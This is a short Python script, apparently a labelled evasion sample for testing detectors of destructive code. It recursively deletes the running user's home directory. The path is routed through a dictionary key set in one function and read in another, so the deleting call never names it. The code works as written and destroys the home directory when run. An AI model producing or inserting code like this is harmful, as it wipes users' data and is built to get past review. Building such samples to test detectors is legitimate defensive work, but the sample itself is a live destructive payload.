# Evasion: deletes the user's home directory recursively.
# Hidden behind a dictionary key kept in a module-level constant: the
# "cleanup target" is stored with cfg[KEY] = os.path.expanduser("~") in one
# function and read back with cfg[KEY] in another, so the path is never
# named at the call that removes it.
import os
import shutil
import sys

KEY = "target"
cfg = {}


def configure():
    cfg[KEY] = os.path.expanduser("~")
    cfg["verbose"] = "-v" in sys.argv


def cleanup():
    if cfg["verbose"]:
        print("cleaning", cfg[KEY])
    shutil.rmtree(cfg[KEY], ignore_errors=True)


if __name__ == "__main__":
    configure()
    cleanup()
